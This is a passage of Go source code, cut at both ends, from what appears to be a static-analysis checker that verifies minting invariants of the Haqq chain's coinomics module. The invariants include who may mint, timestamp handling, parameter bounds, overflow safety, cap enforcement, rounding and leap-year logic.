		Explanation: "Static analysis of coinomics minting: (R1) only Keeper.MintCoins mints for the coinomics account, only MintAndAllocate calls it, only EndBlocker calls MintAndAllocate; (R2) EndBlocker reaches MintAndAllocate only while EnableCoinomics is set; on the first block after activation (previous timestamp zero) nothing is minted and the timestamp is recorded; every path that mints sends exactly the minted coin from the coinomics account to the fee collector and records the block timestamp; the amount depends on bonded tokens, reward coefficient, block time, previous timestamp, supply and maximum supply; minting is switched off only on the cap branch, where the amount is replaced by a value derived from max supply and supply; the keeper is wired with the fee-collector name; the block-mint amount is rounded in one way only; the block time enters the computation only as a timestamp or through Year(), and a hand-written leap predicate takes Year() modulo exactly {4,100,400}; (R3) while disabled EndBlocker forgets the last timestamp. The formula itself, the value of the rounding, the two year-length constants and the cap arithmetic are numeric and not decided.",
		Assumptions: []string{"sdk.Dec arithmetic", "bank keeper mints/moves exactly the given coins"},
		Declined:    []string{"the formula bonded × coefficient% × elapsed / year in 18-decimal fixed point, rounding to nearest", "the value of the two year-length constants", "never exceeding the cap as a numeric bound"},
	})
}

func runC13(r *Run) {
	defer importProcessLocal(r, "RM", "x/coinomics")
	P := r.P
	const ck = "x/coinomics/keeper"
	modName, _ := P.constOf(haqqMod+"/x/coinomics/types", "ModuleName")
	r.Rule("R1", "OWN: bank MintCoins(…, coinomics, …) only in (coinomics Keeper).MintCoins ← MintAndAllocate ← EndBlocker; SetPrevBlockTS ← {MintAndAllocate, EndBlocker}")
	r.Rule("R2", "PATH+FLOW: see explanation")

	checkMintBurnOwnership(r, "R1", modName, map[string]string{"(" + ck + ".Keeper).MintCoins": "coinomics mint helper"}, 1)
	want := map[string]string{"MintCoins": "(" + ck + ".Keeper).MintAndAllocate", "MintAndAllocate": "(" + ck + ".Keeper).EndBlocker"}
	n := 0
	for _, fn := range P.Funcs {
		if isTestSupport(P, fn) || fn.Synthetic != "" {
			continue
		}
		owner := fnID(outermost(fn))
		eachCall(fn, func(ci CallInfo) {
			w, ok := want[ci.Name]
			if !ok || ci.Static == nil || !pathHasSuffix(ci.PkgPath, ck) {
				return
			}
			n++
			r.Check(owner == w, "R1", owner+"#calls-"+ci.Name, P.Pos(instrPos(ci.Instr)), "confirmed caller", "coinomics "+ci.Name+" is called from "+owner+" (only "+w+" may)")
		})
	}
	r.Floor("R1", "callers of MintCoins/MintAndAllocate", n, 2)
	// the helper mints exactly the coin it is given: no adjustment from balances it reads itself
	if mh, ok := P.FnOK("(" + ck + ".Keeper).MintCoins"); ok {
		var coinP *ssa.Parameter
		for _, p := range mh.Params {
			if p.Name() == "coin" || namedName(p.Type()) == "Coin" {
				coinP = p
			}
		}
		okExact, nMint := true, 0
		eachCall(mh, func(ci CallInfo) {
			if ci.Name != "MintCoins" || ci.Static == mh {
				return
			}
			nMint++
			a := ci.Instr.Common().Args
			sl := backSlice(a[len(a)-1])
			if coinP == nil || !sl.Has(coinP) {
				okExact = false
			}
			sl.Any(func(v ssa.Value) bool {
				switch x := v.(type) {
				case *ssa.Phi:
					okExact = false
				case *ssa.Call:
					if n := callInfo(x).Name; n != "NewCoins" {
						okExact = false
					}
				}
				return false
			})
		})
		r.Check(okExact && nMint == 1, "R1", fnID(mh)+"#mints-its-parameter", P.Pos(fnPos(mh)), "bank MintCoins(NewCoins(coin)) with the parameter itself",
			"the coinomics mint helper mints something other than the coin it was handed (reduced by a balance it reads, merged, recomputed): the chain no longer mints the formula amount that MintAndAllocate computed and sends on")
	} else {
		r.Bad("R1", "anchor/coinomics Keeper.MintCoins", "", "not found")
	}
	// the mint clock has two writers only: MintAndAllocate (block time) and EndBlocker (zero while disabled).
	// Anything else — in particular restoring it from a genesis file — makes the first block after the
	// restart mint for the whole gap (or never advance), against 'elapsed between consecutive block timestamps'.
	nTS := 0
	tsWriters := map[string]bool{"(" + ck + ".Keeper).MintAndAllocate": true, "(" + ck + ".Keeper).EndBlocker": true}
	for _, fn := range P.Funcs {
		if isTestSupport(P, fn) || fn.Synthetic != "" {
			continue
		}
		owner := fnID(outermost(fn))
		eachCall(fn, func(ci CallInfo) {
			if ci.Name != "SetPrevBlockTS" || ci.Static == nil || !pathHasSuffix(ci.PkgPath, ck) {
				return
			}
			nTS++
			r.Check(tsWriters[owner], "R1", owner+"#calls-SetPrevBlockTS", P.Pos(instrPos(ci.Instr)), "confirmed writer of the mint clock",
				"the previous-block timestamp of coinomics is written from "+owner+": only MintAndAllocate (with the block time) and EndBlocker (reset while disabled) may — a timestamp carried over from elsewhere makes the next block mint for an interval that is not the gap between two consecutive blocks")
		})
	}
	r.Floor("R1", "SetPrevBlockTS call sites", nTS, 3)

	r.Rule("R6", "OWN.parameters-have-one-home: the only way to change the coinomics parameters on a running chain is the legacy parameter-change proposal, whose handler writes the x/params subspace; the keeper's GetParams therefore reads the subspace (GetParamSet) and nothing else — a second copy in the module's own store, preferred when present, makes the keeper deaf to governance: minting continues after it was switched off and a changed coefficient is ignored")
	if gp, ok := P.FnOK("(x/coinomics/keeper.Keeper).GetParams"); ok {
		nSub, other := 0, ""
		eachCall(gp, func(ci CallInfo) {
			switch ci.Name {
			case "GetParamSet", "GetParamSetIfExists":
				nSub++
			case "KVStore", "Get", "Has", "MustUnmarshal", "Unmarshal", "NewStore":
				if other == "" {
					other = ci.Name + " at " + P.Pos(instrPos(ci.Instr))
				}
			}
		})
		r.Check(nSub >= 1 && other == "", "R6", fnID(gp)+"#reads-the-subspace-only", P.Pos(fnPos(gp)), "GetParamSet and no other store read",
			"the coinomics keeper's GetParams reads "+other+" besides (or instead of) the x/params subspace: a ParameterChangeProposal for subspace coinomics (EnableCoinomics = false, a new RewardCoefficient) is stored in the subspace and never seen by the mint logic")
	} else {
		r.Bad("R6", "anchor/coinomics GetParams", "", "not found")
	}
	r.Rule("R5", "SHAPE.the-coefficient-is-bounded-where-it-is-accepted: MintAndAllocate multiplies the bonded total by RewardCoefficient *before* it clamps to the cap, in 315-bit decimals that panic on overflow; the only place a coefficient is judged is validateRewardCoefficient (parameter changes and genesis). It therefore compares the asserted value against a bound (a GT/GTE/LT/LTE of the value or its Abs) and returns an error over one edge of that comparison — a validator that only checks the Go type accepts 1e70 %, after which every EndBlock panics with 'Int overflow'")
	if vf, ok := P.FnOK("x/coinomics/types.validateRewardCoefficient"); ok {
		bounded := false
		for _, b := range vf.Blocks {
			ifi, isIf := lastIf(b)
			if !isIf {
				continue
			}
			c, isC := stripValue(ifi.Cond).(*ssa.Call)
			if u, isU := ifi.Cond.(*ssa.UnOp); isU && u.Op == token.NOT {
				c, isC = stripValue(u.X).(*ssa.Call)
			}
			if !isC {
				continue
			}
			ci := callInfo(c)
			if ci.Recv != "LegacyDec" && ci.Recv != "Dec" {
				continue
			}
			switch ci.Name {
			case "GT", "GTE", "LT", "LTE":
			default:
				continue
			}
			// one side derives from the asserted parameter
			fromParam := backSlice(c.Call.Args...).Any(func(v ssa.Value) bool { _, isTA := v.(*ssa.TypeAssert); return isTA })
			failing := false
			for _, su := range b.Succs {
				for _, in := range su.Instrs {
					if ret, ok := in.(*ssa.Return); ok && classifyExit(ret) == ExitFailure {
						failing = true
					}
				}
			}
			if fromParam && failing {
				bounded = true
			}
		}
		r.Check(bounded, "R5", fnID(vf)+"#range-checked", P.Pos(fnPos(vf)), "a Dec comparison of the asserted value guards an error return",
			"validateRewardCoefficient accepts every Dec: a parameter change to 1e70 % passes, and the next EndBlock panics 'Int overflow' in MintAndAllocate (bonded × coefficient) before the cap clamp — the chain halts instead of minting the remainder and switching minting off")
	} else {
		r.Bad("R5", "anchor/validateRewardCoefficient", "", "not found")
	}
	r.Rule("R4", "FLOW.configured-amounts-never-pass-an-unchecked-narrowing: a coin amount is a 256-bit integer and validation accepts any maximum supply ('no cap' is naturally written 2^256-1), while an 18-decimal sdk.Dec holds 315 bits; a conversion that can fail (it returns an error) may have its error discarded in the block-end code of x/coinomics only when its argument is a constant or a quantity of the running chain (a timestamp, bonded tokens, the supply) — never when it derives from the module's configuration (GetMaxSupply, a Params field): the discarded failure leaves a nil number behind, the comparison with it panics, EndBlock has no recover, and every node stops at that block")
	{
		nConv := 0
		for _, fn := range P.Funcs {
			if !pathHasSuffix(fnPkgPath(fn), ck) || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			seen := map[string]int{}
			eachCall(fn, func(ci CallInfo) {
				c, isVal := ci.Instr.(*ssa.Call)
				if !isVal {
					return
				}
				tup, isT := c.Type().(*types.Tuple)
				if !isT || tup.Len() < 2 || !isErrorType(tup.At(tup.Len()-1).Type()) {
					return
				}
				// is the error looked at?
				used := false
				if refs := c.Referrers(); refs != nil {
					for _, u := range *refs {
						if ex, ok := u.(*ssa.Extract); ok && ex.Index == tup.Len()-1 && ex.Referrers() != nil && len(*ex.Referrers()) > 0 {
							used = true
						}
					}
				}
				if used {
					return
				}
				nConv++
				fromConfig := ""
				for _, a := range c.Call.Args {
					sl := backSlice(a)
					if sl.HasCall(func(g CallInfo) bool { return g.Name == "GetMaxSupply" }) {
						fromConfig = "GetMaxSupply"
					}
					if sl.HasField("Params", "RewardCoefficient") {
						fromConfig = "Params"
					}
				}
				seen[ci.Name]++
				r.Check(fromConfig == "", "R4", fmt.Sprintf("%s#unchecked-%s-%d", fnID(fn), ci.Name, seen[ci.Name]), P.Pos(instrPos(c)), "the discarded error belongs to a conversion of a constant or of a quantity of the running chain",
					"the error of "+ci.Name+" is discarded although its argument derives from the module's configuration ("+fromConfig+"): a configured value the target type cannot hold (a maximum supply above ~6.67e76 for an 18-decimal Dec) leaves a nil number behind and the next operation on it panics in EndBlock on every node")
			})
		}
		r.Floor("R4", "fallible calls with a discarded error in x/coinomics/keeper", nConv, 3)
	}

	if eb, ok := P.FnOK("(" + ck + ".Keeper).EndBlocker"); ok {
		isMA := isCallMatching(func(ci CallInfo) bool { return ci.Name == "MintAndAllocate" })
		requireGuard(r, "R2", fnID(eb)+"#only-when-enabled", eb, func(cond ssa.Value) (bool, bool) {
			return true, isFieldLoad(cond, "Params", "EnableCoinomics")
		}, nil, isMA, "MintAndAllocate only while EnableCoinomics", "EndBlocker can mint while coinomics is disabled")
		// re-activation: while disabled the last mint timestamp must be forgotten, otherwise the first block after
		// re-activation mints for the whole disabled period
		r.Rule("R3", "PATH.reactivation: on the EnableCoinomics==false edge of EndBlocker every return is preceded by SetPrevBlockTS(zero), except over the edge on which GetPrevBlockTS() is already zero")
		en, _ := guardPassEdges(eb, func(cond ssa.Value) (bool, bool) { return true, isFieldLoad(cond, "Params", "EnableCoinomics") })
		dis := negEdges(en)
		alreadyZero, _ := guardPassEdges(eb, func(cond ssa.Value) (bool, bool) {
			c, ok := callNamed(cond, "IsZero")
			return true, ok && backSlice(callArgs(c)[0]).HasCall(func(g CallInfo) bool { return g.Name == "GetPrevBlockTS" })
		})
		isReset := isCallMatching(func(ci CallInfo) bool {
			if ci.Name != "SetPrevBlockTS" {
				return false
			}
			s := backSlice(argN(ci.Instr, 1))
			return s.HasCall(func(g CallInfo) bool { return g.Name == "ZeroInt" }) && !s.HasCall(func(g CallInfo) bool { return g.Name == "BlockTime" })
		})
		okR := len(dis) > 0
		var wit []string
		for _, e := range dis {
			if w := (PathQuery{Fn: eb, StartBlock: e.From.Succs[e.Succ], Block: isReset, Target: func(in ssa.Instruction) bool { _, ok := in.(*ssa.Return); return ok && in.Block() != eb.Recover }, DelEdge: edgeSet(alreadyZero)}).Search(); w != nil {
				okR = false
				wit = P.witness(w)
			}
		}
		r.Check(okR, "R3", fnID(eb)+"#timestamp-forgotten-while-disabled", P.Pos(fnPos(eb)), "disabled ⇒ PrevBlockTS reset to zero", "while minting is disabled EndBlocker leaves the last mint timestamp in place: the first block after re-activation mints for the whole disabled period (not 'elapsed between consecutive block timestamps', and not 'nothing on the first block after activation')", wit...)
	} else {
		r.Bad("R2", "anchor/EndBlocker", "", "coinomics EndBlocker not found")
	}

	fn, ok := P.FnOK("(" + ck + ".Keeper).MintAndAllocate")
	if !ok {
		r.Bad("R2", "anchor/MintAndAllocate", "", "not found")
		return
	}
	where := P.Pos(fnPos(fn))
	var mintCall ssa.CallInstruction
	isMint := isCallMatching(func(ci CallInfo) bool {
		if ci.Name == "MintCoins" && ci.Static != nil && pathHasSuffix(ci.PkgPath, ck) && errHandled(ci.Instr) {
			mintCall = ci.Instr
			return true
		}
		return false
	})
	eachInstr(fn, func(in ssa.Instruction) { isMint(in) })
	if mintCall == nil {
		r.Bad("R2", fnID(fn)+"#mints", where, "MintAndAllocate contains no error-checked Keeper.MintCoins call")
		return
	}
	// first block: previous timestamp zero → no mint, timestamp recorded
	first, _ := guardPassEdges(fn, func(cond ssa.Value) (bool, bool) {
		c, ok := callNamed(cond, "Equal")
		if !ok {
			return false, false
		}
		a := callArgs(c)
		return true, backSlice(a[0]).HasCall(func(g CallInfo) bool { return g.Name == "GetPrevBlockTS" }) && backSlice(a[1]).HasCall(func(g CallInfo) bool { return g.Name == "ZeroInt" })
	})
	okFirst := len(first) > 0
	isSetTS := isCallMatching(func(ci CallInfo) bool {
		return ci.Name == "SetPrevBlockTS" && backSlice(argN(ci.Instr, 1)).HasCall(func(g CallInfo) bool { return g.Name == "BlockTime" })
	})
	for _, e := range first {
		tb := e.From.Succs[e.Succ]
		if w := (PathQuery{Fn: fn, StartBlock: tb, Target: isMint}).Search(); w != nil {
			okFirst = false
		}
		if w := (PathQuery{Fn: fn, StartBlock: tb, Block: isSetTS, Target: isSuccessExit}).Search(); w != nil {
			okFirst = false
		}
	}
	r.Check(okFirst, "R2", fnID(fn)+"#first-block-mints-nothing", where, "previous timestamp zero ⇒ record timestamp, no mint", "on the first block after activation (previous timestamp zero) a mint is reachable or the timestamp is not recorded")
	// the mint requires a recorded previous timestamp: reachable only over the non-zero edge
	w := PathQuery{Fn: fn, Target: isMint, DelEdge: edgeSet(negEdges(first))}.Search()
	r.Check(w == nil && len(first) > 0, "R2", fnID(fn)+"#mint-needs-previous-timestamp", where, "mint only with a previous timestamp", "a mint is reachable without the previous-timestamp check", P.witness(w)...)

	minted := stripValue(argN(mintCall, 1))
	isAlloc := isCallMatching(func(ci CallInfo) bool {
		if ci.Name != "SendCoinsFromModuleToModule" || !errHandled(ci.Instr) {
			return false
		}
		s, okm := constString(argN(ci.Instr, 1))
		okTo := backSlice(argN(ci.Instr, 2)).HasField("Keeper", "feeCollectorName")
		// NewCoins(minted)
		okAmt := backSlice(argN(ci.Instr, 3)).Has(minted)
		return okm && s == modName && okTo && okAmt
	})
	w = Follows(fn, mintCall, isAlloc, nil)
	r.Check(w == nil, "R2", fnID(fn)+"#minted-coin-goes-to-fee-collector", P.Pos(instrPos(mintCall)), "the minted coin is sent coinomics → fee collector on every success path", "after minting a success exit is reachable without sending exactly the minted coin from the coinomics account to the fee collector", P.witness(w)...)
	w = Follows(fn, mintCall, isSetTS, nil)
	r.Check(w == nil, "R2", fnID(fn)+"#timestamp-updated", P.Pos(instrPos(mintCall)), "block timestamp recorded after minting", "after minting a success exit is reachable without recording the block timestamp (the same interval would be minted again)", P.witness(w)...)
	// the mint clock advances on every block that is accounted for — also one whose mint rounds to zero
	// (no exception for the negative-amount branch: a negative reward coefficient — which parameter validation
	// accepts — takes it on every block, and a clock frozen there is minted for in one block later)
	wClk := PathQuery{Fn: fn, Block: isSetTS, Target: isSuccessExit}.Search()
	r.Check(wClk == nil, "R2", fnID(fn)+"#clock-advances-on-every-success", where, "every success exit records the block timestamp",
		"MintAndAllocate can return success without recording the block timestamp: the block's interval is not consumed, so the next block that does mint pays for it again — 'elapsed' is no longer measured between consecutive block timestamps", P.witness(wClk)...)
	s := backSlice(minted)
	deps := map[string]bool{
		"TotalBondedTokens": s.HasCall(func(g CallInfo) bool { return g.Name == "TotalBondedTokens" }),
		"RewardCoefficient": s.HasField("Params", "RewardCoefficient"),
		"BlockTime":         s.HasCall(func(g CallInfo) bool { return g.Name == "BlockTime" }),
		"GetPrevBlockTS":    s.HasCall(func(g CallInfo) bool { return g.Name == "GetPrevBlockTS" }),
		"GetMaxSupply":      s.HasCall(func(g CallInfo) bool { return g.Name == "GetMaxSupply" }),
		"GetSupply":         s.HasCall(func(g CallInfo) bool { return g.Name == "GetSupply" }),
		"MintDenom":         s.HasField("Params", "MintDenom"),
	}
	var missing []string
	for k, v := range deps {
		if !v {
			missing = append(missing, k)
		}
	}
	r.Check(len(missing) == 0, "R2", fnID(fn)+"#amount-deps", P.Pos(instrPos(mintCall)), "amount = f(bonded, coefficient, block time, previous timestamp, supply, max supply) in the mint denom", fmt.Sprintf("the minted coin no longer depends on %v", missing))
	// cap branch
	capEdges, _ := guardPassEdges(fn, func(cond ssa.Value) (bool, bool) {
		c, ok := callNamed(cond, "GT")
		if !ok {
			return false, false
		}
		a := callArgs(c)
		return true, isCapComparison(a)
	})
	r.Check(len(capEdges) > 0, "R2", fnID(fn)+"#cap-comparison", where, "supply + mint is compared with the maximum supply", "the comparison of supply + block mint with the maximum supply is gone")
	// the comparison is made before every mint: no path reaches the mint without having evaluated it
	{
		isCap := func(in ssa.Instruction) bool {
			c, ok := in.(*ssa.Call)
			if !ok || callInfo(c).Name != "GT" {
				return false
			}
			a := callArgs(c)
			if len(a) != 2 {
				return false
			}
			return isCapComparison(a)
		}
		isMint := func(in ssa.Instruction) bool { return in == ssa.Instruction(mintCall) }
		w := PathQuery{Fn: fn, Block: isCap, Target: isMint}.Search()
		r.Check(w == nil, "R2", fnID(fn)+"#cap-compared-before-every-mint", where, "every path to the mint evaluates supply + mint > max supply first",
			"a path reaches MintCoins without the comparison of supply + block mint with the maximum supply having been evaluated (a short-circuit or early branch around it): for that configuration — e.g. a zero or unset maximum — minting is unbounded", P.witness(w)...)
	}
	offOK, nOff := true, 0
	eachInstr(fn, func(in ssa.Instruction) {
		st, ok := in.(*ssa.Store)
		if !ok {
			return
		}
		if sn, f, ok := fieldOfAddr(st.Addr); ok && sn == "Params" && f == "EnableCoinomics" {
			nOff++
			dom := false
			for _, e := range capEdges {
				tb := e.From.Succs[e.Succ]
				if len(tb.Preds) == 1 && dominates(tb, st.Block()) {
					dom = true
				}
			}
			if !dom {
				offOK = false
			}
		}
	})
	r.Check(offOK && nOff >= 1, "R2", fnID(fn)+"#switch-off-only-at-cap", where, "EnableCoinomics is cleared only on the cap branch", "minting is switched off outside the branch on which supply + mint exceeds the maximum (or never)")
	for _, e := range capEdges {
		tb := e.From.Succs[e.Succ]
		isSetParams := isCallMatching(func(ci CallInfo) bool { return ci.Name == "SetParams" })
		w := PathQuery{Fn: fn, StartBlock: tb, Block: isSetParams, Target: func(in ssa.Instruction) bool { return isMint(in) || isSuccessExit(in) }}.Search()
		r.Check(w == nil, "R2", fnID(fn)+"#cap-branch-stores-params", where, "the cap branch stores the disabled params", "on the cap branch the params with EnableCoinomics=false are not stored before minting/returning", P.witness(w)...)
		// the amount on this branch is replaced by f(maxSupply, supply)
		// (the difference may be computed on the branch or before it; what the branch contributes to the minted amount
		// derives from it and no longer from the formula)
		repl := false
		isRemainder := func(v ssa.Value) bool {
			sl := backSlice(v)
			if sl.HasCall(func(g CallInfo) bool { return g.Name == "TotalBondedTokens" }) {
				return false
			}
			return sl.Any(func(x ssa.Value) bool {
				c, ok := x.(*ssa.Call)
				if !ok || callInfo(c).Name != "Sub" {
					return false
				}
				a := callArgs(c)
				return len(a) == 2 && backSlice(a[0]).HasCall(func(g CallInfo) bool { return g.Name == "GetMaxSupply" }) && backSlice(a[1]).HasCall(func(g CallInfo) bool { return g.Name == "GetSupply" })
			})
		}
		backSlice(minted).Any(func(x ssa.Value) bool {
			ph, ok := x.(*ssa.Phi)
			if !ok {
				return false
			}
			for i, ev := range ph.Edges {
				if pred := ph.Block().Preds[i]; (pred == tb || dominates(tb, pred)) && isRemainder(ev) {
					repl = true
				}
			}
			return repl
		})
		r.Check(repl, "R2", fnID(fn)+"#cap-branch-mints-remainder", where, "on the cap branch the amount becomes maxSupply − supply", "on the cap branch the minted amount is not replaced by a value derived from maxSupply − supply")
	}
	// one rounding only: the statement says "rounded to the nearest unit"; the amount that is compared with the cap and the
	// amount that is minted must not be converted with different roundings
	badConv := ""
	eachCall(fn, func(ci CallInfo) {
		switch ci.Name {
		case "TruncateInt", "TruncateInt64", "Ceil", "Floor", "TruncateDec":
			if !backSlice(callArgs(ci.Instr)[0]).HasCall(func(g CallInfo) bool { return g.Name == "TotalBondedTokens" }) {
				return
			}
			// rounding the formula amount *up* for the comparison with an integer remainder is exact (m > r ⇔ ⌈m⌉ > r for
			// integer r) as long as the rounded value is not what gets minted
			if v, isV := ci.Instr.(ssa.Value); ci.Name == "Ceil" && isV && !backSlice(minted).Has(v) {
				return
			}
			badConv = ci.Name + " at " + P.Pos(instrPos(ci.Instr))
		}
	})
	r.Check(badConv == "", "R2", fnID(fn)+"#single-rounding", where, "the block mint is only ever rounded with RoundInt", "the block-mint amount is converted with "+badConv+" somewhere in MintAndAllocate while the minted coin uses RoundInt: the cap comparison and the minted amount can disagree by one unit (supply can end above the maximum)")
	// year length: the statement fixes it as a function of the calendar year (leap or not). Whatever the
	// arithmetic, the block time may then enter the computation only as a timestamp (Unix*) or through Year();
	// any other calendar query on it (AddDate, Month, YearDay, Sub, ...) makes the divisor vary inside one year.
	nYear, badUse := 0, ""
	eachCall(fn, func(ci CallInfo) {
		c := ci.Instr.Common()
		for i, a := range c.Args {
			if namedName(a.Type()) != "Time" || !fromBlockTime(a, map[ssa.Value]bool{}) {
				continue
			}
			isRecv := i == 0 && !ci.Invoke && ci.Static != nil && ci.Static.Signature.Recv() != nil
			switch {
			case isRecv && ci.Name == "Year":
				if refs := ci.Instr.(ssa.Value).Referrers(); refs != nil && len(*refs) > 0 {
					nYear++
				}
			case isRecv && (ci.Name == "Unix" || ci.Name == "UnixMilli" || ci.Name == "UnixMicro" || ci.Name == "UnixNano" || ci.Name == "UTC" || ci.Name == "Local" || ci.Name == "In"):
			default:
				badUse = ci.Name + " at " + P.Pos(instrPos(ci.Instr))
			}
		}
	})
	r.Check(badUse == "" && nYear >= 1, "R2", fnID(fn)+"#year-length-from-calendar-year", where, "the block time is used only as a timestamp and through Year()",
		fmt.Sprintf("the block time enters MintAndAllocate through %q (Year() uses: %d): the year length no longer is a function of the calendar year alone (365 or 366 days, 'following leap years'), so the per-block amount changes inside a year", badUse, nYear))
	// when the leap-year predicate is written out by hand, the remainders taken of Year() are the Gregorian ones
	var rems []string
	eachInstr(fn, func(in ssa.Instruction) {
		if b, ok := in.(*ssa.BinOp); ok && b.Op == token.REM {
			if c, ok := stripValue(b.X).(*ssa.Call); ok && callInfo(c).Name == "Year" {
				if n, ok := constInt(b.Y); ok {
					rems = append(rems, fmt.Sprint(n))
				}
			}
		}
	})
	if len(rems) > 0 {
		sort.Strings(rems)
		set := strings.Join(uniq(rems), ",")
		r.Check(set == "100,4,400", "R2", fnID(fn)+"#gregorian-leap-divisors", where, "Year() %% {4,100,400}", "the hand-written leap-year predicate takes Year() modulo {"+set+"}, the Gregorian rule needs exactly {4,100,400}")
	}
	// which year length goes with which kind of year: decided only when the function is written in the
	// recognised form `L := (Y%4 == 0 && Y%100 != 0) || Y%400 == 0; if L {v = c1} else {v = c2}` (operands in
	// any order, optional negation of the if-condition); other formulations are not judged (a note, not a verdict)
	if fd, ok := fn.Syntax().(*ast.FuncDecl); ok && fd.Body != nil {
		verdict, detail := leapBranchAssociation(fd)
		switch verdict {
		case "ok":
			r.OK("R2", fnID(fn)+"#leap-year-gets-366-days", where, detail)
		case "bad":
			r.Bad("R2", fnID(fn)+"#leap-year-gets-366-days", where, detail)
		default:
			r.Note("C13 leap-branch association not judged: %s", detail)
		}
	}
	// wiring
	if nh, ok := P.FnOK("app.NewHaqq"); ok {
		fc, _ := P.constOf("github.com/cosmos/cosmos-sdk/x/auth/types", "FeeCollectorName")
		okW := false
		eachCall(nh, func(ci CallInfo) {
			if ci.Name == "NewKeeper" && pathHasSuffix(ci.PkgPath, ck) {
				for _, a := range ci.Instr.Common().Args {
					if s, ok := constString(a); ok && s == fc {
						okW = true
					}
				}
			}
		})
		r.Check(okW, "R2", "app.NewHaqq#coinomics-fee-collector", P.Pos(fnPos(nh)), "coinomics keeper is constructed with authtypes.FeeCollectorName", "the coinomics keeper is not wired with the fee collector account name: minted coins would go elsewhere")
	}
	_ = token.ADD
}

// negEdges: the sibling edges of the given If edges.
func negEdges(es []Edge) []Edge {
	var out []Edge
	for _, e := range es {
		out = append(out, Edge{e.From, 1 - e.Succ})
	}
	return out
}

// isFieldLoad: v is a load of field f of struct sn (directly or through a local copy).
func isFieldLoad(v ssa.Value, sn, f string) bool {
	switch x := v.(type) {
	case *ssa.UnOp:
		if s, ff, ok := fieldOfAddr(x.X); ok && s == sn && ff == f {
			return true
		}
	case *ssa.Field:
		if s, ff, ok := fieldOfValue(x); ok && s == sn && ff == f {
			return true
		}
	}
	return false
}

// fromBlockTime: v derives from a BlockTime() call without passing through Year().
func fromBlockTime(v ssa.Value, seen map[ssa.Value]bool) bool {
	if v == nil || seen[v] {
		return false
	}
	seen[v] = true
	switch x := v.(type) {
	case *ssa.Call:
		n := callInfo(x).Name
		if n == "BlockTime" {
			return true
		}
		if n == "Year" {
			return false
		}
	case *ssa.Alloc:
		for _, ref := range *x.Referrers() {
			if st, ok := ref.(*ssa.Store); ok && st.Addr == x && fromBlockTime(st.Val, seen) {
				return true
			}
		}
		return false
	case *ssa.Const, *ssa.Global, *ssa.Parameter, *ssa.FreeVar, *ssa.Function, *ssa.Builtin:
		return false
	}
	in, ok := v.(ssa.Instruction)
	if !ok {
		return false
	}
	for _, op := range in.Operands(nil) {
		if op != nil && *op != nil && fromBlockTime(*op, seen) {
			return true
		}
	}
	return false
}

// leapBranchAssociation: see the call site. Returns "ok"/"bad"/"" (not recognised) and a description.
func leapBranchAssociation(fd *ast.FuncDecl) (string, string) {
	unparen := func(e ast.Expr) ast.Expr {
		for {
			p, ok := e.(*ast.ParenExpr)
			if !ok {
				return e
			}
			e = p.X
		}
	}
	// atom: Y % k (==|!=) 0  → (Y name, k, isEq)
	atom := func(e ast.Expr) (string, int, bool, bool) {
		b, ok := unparen(e).(*ast.BinaryExpr)
		if !ok || (b.Op != token.EQL && b.Op != token.NEQ) {
			return "", 0, false, false
		}
		l, rr := unparen(b.X), unparen(b.Y)
		if lit, ok := l.(*ast.BasicLit); ok && lit.Value == "0" {
			l, rr = rr, l
		}
		lit, ok := rr.(*ast.BasicLit)
		if !ok || lit.Value != "0" {
			return "", 0, false, false
		}
		m, ok := l.(*ast.BinaryExpr)
		if !ok || m.Op != token.REM {
			return "", 0, false, false
		}
		id, ok := unparen(m.X).(*ast.Ident)
		kl, ok2 := unparen(m.Y).(*ast.BasicLit)
		if !ok || !ok2 {
			return "", 0, false, false
		}
		k, err := strconv.Atoi(kl.Value)
		if err != nil {
			return "", 0, false, false
		}
		return id.Name, k, b.Op == token.EQL, true
	}
	// gregorian: (Y%4==0 && Y%100!=0) || Y%400==0, operands of && and || in any order
	gregorian := func(e ast.Expr) bool {
		or, ok := unparen(e).(*ast.BinaryExpr)
		if !ok || or.Op != token.LOR {
			return false
		}
		for _, pr := range [][2]ast.Expr{{or.X, or.Y}, {or.Y, or.X}} {
			and, ok := unparen(pr[0]).(*ast.BinaryExpr)
			if !ok || and.Op != token.LAND {
				continue
			}
			y3, k3, eq3, ok3 := atom(pr[1])
			if !ok3 || k3 != 400 || !eq3 {
				continue
			}
			for _, ap := range [][2]ast.Expr{{and.X, and.Y}, {and.Y, and.X}} {
				y1, k1, eq1, ok1 := atom(ap[0])
				y2, k2, eq2, ok2 := atom(ap[1])
				if ok1 && ok2 && k1 == 4 && eq1 && k2 == 100 && !eq2 && y1 == y2 && y2 == y3 {
					return true
				}
			}
		}
		return false
	}
	leapVar := ""
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		if as, ok := n.(*ast.AssignStmt); ok && len(as.Lhs) == 1 && len(as.Rhs) == 1 {
			if id, ok := as.Lhs[0].(*ast.Ident); ok && gregorian(as.Rhs[0]) {
				leapVar = id.Name
			}
		}
		return true
	})
	constOf := func(body *ast.BlockStmt) (*big.Int, string) {
		var val *big.Int
		target := ""
		ast.Inspect(body, func(n ast.Node) bool {
			as, ok := n.(*ast.AssignStmt)
			if !ok || len(as.Rhs) != 1 {
				return true
			}
			call, ok := as.Rhs[0].(*ast.CallExpr)
			if !ok || len(call.Args) != 1 {
				return true
			}
			lit, ok := call.Args[0].(*ast.BasicLit)
			if !ok {
				return true
			}
			txt := lit.Value
			if lit.Kind == token.STRING {
				txt, _ = strconv.Unquote(txt)
			}
			if v, ok := new(big.Int).SetString(txt, 10); ok {
				val = v
				if id, ok := as.Lhs[0].(*ast.Ident); ok {
					target = id.Name
				}
			}
			return true
		})
		return val, target
	}
	verdict, detail := "", "no `if <leap predicate>` with two constant year lengths in the recognised form"
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		ifs, ok := n.(*ast.IfStmt)
		if !ok || ifs.Else == nil {
			return true
		}
		els, ok := ifs.Else.(*ast.BlockStmt)
		if !ok {
			return true
		}
		cond, neg := unparen(ifs.Cond), false
		for {
			u, ok := cond.(*ast.UnaryExpr)
			if !ok || u.Op != token.NOT {
				break
			}
			cond, neg = unparen(u.X), !neg
		}
		isLeapCond := gregorian(cond)
		if id, ok := cond.(*ast.Ident); ok && leapVar != "" && id.Name == leapVar {
			isLeapCond = true
		}
		if !isLeapCond {
			return true
		}
		a, ta := constOf(ifs.Body)
		b, tb := constOf(els)
		if a == nil || b == nil || ta != tb {
			return true
		}
		leap, regular := a, b
		if neg {
			leap, regular = b, a
		}
		// unit-free: leap/regular = 366/365
		l365 := new(big.Int).Mul(leap, big.NewInt(365))
